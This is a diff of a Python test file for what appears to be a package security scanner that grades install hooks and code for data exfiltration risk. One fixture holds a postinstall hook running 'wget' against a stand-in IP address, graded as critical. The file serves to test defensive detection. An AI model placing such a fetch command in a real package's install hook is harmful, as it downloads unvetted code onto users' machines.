@@ -81,3 +81,11 @@ def test_a_table_of_numbers():
 def test_a_command_line_is_enough():
     hook = InstallHook("lifecycle-script", "postinstall", "wget http://198.51.100.7/x", mentions=(URL,))
     assert grades(RULE, case(contents=(content(hooks=(hook,)),))) == [("critical", "high")]
+
+
+def test_another_file_is_given_data_or_the_address_is_new():
+    names = file(URL, calls=(), capabilities=(), path="places.js")
+    reaches, gives = file(path="send.js"), file(calls=(SENT,), path="send.js")
+    assert grades(RULE, code_case(names, reaches)) == [("medium", "medium")]
+    assert grades(RULE, code_case(names, gives)) == [("high", "medium")]
+    assert grades(RULE, code_case(names, reaches, change=change(added_hosts=("198.51.100.7",)))) == [("high", "medium")]
